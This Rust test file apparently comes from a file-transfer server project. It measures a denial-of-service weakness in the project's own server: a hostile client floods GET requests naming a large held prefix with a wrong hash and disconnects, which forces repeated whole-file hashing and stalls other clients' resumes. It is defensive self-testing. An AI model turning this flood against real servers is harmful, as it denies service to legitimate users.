//! Issue 10 attacks (helper H) on the cost of verifying a prefix: a GET
//! naming a held prefix as long as a big file, with a wrong hash, makes
//! the server hash the whole file (one read of it) for the price of one
//! request; the session may be gone before the hash starts. All hashing is
//! done by one hasher thread, in order, so every other client's resume
//! waits behind it.
//!
//! A measurement, not a test: ignored, it prints what it saw (run with
//! `cargo test --release --test attack_resume_cost -- --ignored
//! --nocapture`). SFT_ATTACK_SECS (default 10, at most 60) is how long it
//! floods; SFT_ATTACK_MIB (default 512) the size of the file it asks for.
//!
//! Seen on a 2-core machine (SHA-256 with SHA-NI, 1.4 GB/s), a 1 GiB file,
//! 20 s of attack from one key: the key's 64 connections (half the cap)
//! filled at once, each with a GET that made the server hash 1 GiB (the
//! server reads nothing from a session whose GET is being hashed, so it
//! never saw the hang-ups; 356 more connections were refused at the cap);
//! 57.5 GiB hashed in 62 s, one core busy all along. The victim's resume,
//! 8 ms at rest, got no RESUME in 60 s (idle timeout); its next attempt
//! got RESUME 0 at once: the cut session's hash job, still queued, held
//! the partial's lock, so the upload fell back to a fresh staging file and
//! its resume point was lost.

#[allow(dead_code)]
mod hostile;
mod inproc;
#[allow(dead_code)]
mod resumer;

use std::fs;
use std::io::Read;
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::thread;
use std::time::{Duration, Instant};

use hostile::Hostile;
use inproc::*;
use resumer::*;
use sft::crypto::ed25519::SigningKey;
use sft::proto::conn::ClientEvent;
use sft::proto::msgs::{inner, Get, Prefix};
use sft::proto::CHUNK_LEN;

fn env_u64(name: &str, default: u64) -> u64 {
    std::env::var(name)
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(default)
}

/// Bytes this process has read through `read` and friends (the server
/// runs in it: its hashing reads are counted).
fn rchar() -> u64 {
    let io = fs::read_to_string("/proc/self/io").unwrap();
    io.lines()
        .find_map(|l| l.strip_prefix("rchar: "))
        .unwrap()
        .parse()
        .unwrap()
}

fn loadavg() -> String {
    fs::read_to_string("/proc/loadavg")
        .unwrap()
        .trim()
        .to_owned()
}

/// How long the victim's resumable upload waits for the server's RESUME
/// (its partial holds 8 MiB, a few milliseconds of hashing).
/// Returns the wait and the offset offered (0 when the partial was still
/// locked by the victim's previous, cut session).
fn victim_resume(server: &Running, data: &[u8]) -> (Duration, Option<u64>) {
    let mut raw = Raw::connect(server);
    let t = Instant::now();
    raw.conn
        .request_upload("victim.bin", data.len() as u64, false, None, true, T0)
        .unwrap();
    raw.flush();
    let mut buf = vec![0u8; 1 << 16];
    let offset = match raw.sock.read(&mut buf) {
        Ok(n) if n > 0 => {
            let mut bytes = &buf[..n];
            raw.conn.read_tls(&mut bytes, Instant::now()).unwrap();
            match raw.conn.next_event() {
                Ok(Some(ClientEvent::ResumeOffered { offset })) => Some(offset),
                _ => None,
            }
        }
        _ => None, // the server closed the session (idle) or the guard ran out
    };
    let waited = t.elapsed();
    raw.sock.shutdown(std::net::Shutdown::Write).unwrap();
    let _ = read_all(&mut raw.sock); // cut: the partial stays, unlocked
    (waited, offset)
}

#[test]
#[ignore = "a measurement (helper H): run it by hand, it prints what it saw"]
fn held_prefix_gets_that_hang_up_make_the_server_hash_gibibytes_for_free() {
    let secs = env_u64("SFT_ATTACK_SECS", 10).min(60);
    let mib = env_u64("SFT_ATTACK_MIB", 512);
    let attacker_key = SigningKey::generate().unwrap();
    let server = Arc::new(two_keys(&attacker_key));
    let attacker_key = Arc::new(attacker_key);
    let big = server.root.path().join("big.bin");
    let f = fs::File::create(&big).unwrap();
    let piece = content(1 << 20, 3);
    for _ in 0..mib {
        std::io::Write::write_all(&mut &f, &piece).unwrap();
    }
    drop(f);
    let size = mib << 20;
    let victim = content(16 * CHUNK_LEN * 4, 4);
    cut_upload(Raw::connect(&server), "victim.bin", &victim, 32 * CHUNK_LEN);
    // Warm the page cache and measure the victim at rest.
    let _ = fs::read(&big).unwrap();
    println!(
        "idle: victim RESUME after {:?}",
        victim_resume(&server, &victim)
    );

    let stop = Arc::new(AtomicBool::new(false));
    let sent = Arc::new(AtomicU64::new(0));
    let refused = Arc::new(AtomicU64::new(0));
    let read0 = rchar();
    let t0 = Instant::now();
    let attacker = {
        let (server, stop, sent) = (server.clone(), stop.clone(), sent.clone());
        let key = attacker_key.clone();
        let refused = refused.clone();
        thread::spawn(move || {
            while !stop.load(Ordering::Relaxed) && t0.elapsed().as_secs() < secs {
                // Past the key's share of the connections the handshake is
                // refused: try again.
                let Ok(mut h) = catch_unwind(AssertUnwindSafe(|| {
                    Hostile::connect_as(&server, key.clone())
                })) else {
                    refused.fetch_add(1, Ordering::Relaxed);
                    thread::sleep(Duration::from_millis(50));
                    continue;
                };
                let get = Get {
                    path: b"big.bin".to_vec(),
                    max_size: u64::MAX,
                    held: Prefix {
                        offset: size,
                        sha256: [0x5a; 32],
                    },
                };
                h.send(inner::GET, &get.encode());
                sent.fetch_add(1, Ordering::Relaxed);
                drop(h); // hang up before the hash is done
            }
        })
    };
    while t0.elapsed().as_secs() < secs {
        thread::sleep(Duration::from_secs(2));
        {
            let w = victim_resume(&server, &victim);
            println!(
                "t={:>2}s: {} GETs sent ({} connections refused), {} MiB hashed so far, load {}; victim RESUME after {w:?} (wait, offset)",
                t0.elapsed().as_secs(),
                sent.load(Ordering::Relaxed),
                refused.load(Ordering::Relaxed),
                (rchar() - read0) >> 20,
                loadavg()
            );
        }
    }
    stop.store(true, Ordering::Relaxed);
    attacker.join().unwrap();
    let gets = sent.load(Ordering::Relaxed);
    println!(
        "attack over after {:?}: {gets} GETs ({} GiB of hashing asked for)",
        t0.elapsed(),
        (gets * size) >> 30
    );
    let w = victim_resume(&server, &victim);
    println!(
        "victim RESUME right after the attack: {w:?}; {} MiB hashed in all; load {}",
        (rchar() - read0) >> 20,
        loadavg()
    );
}
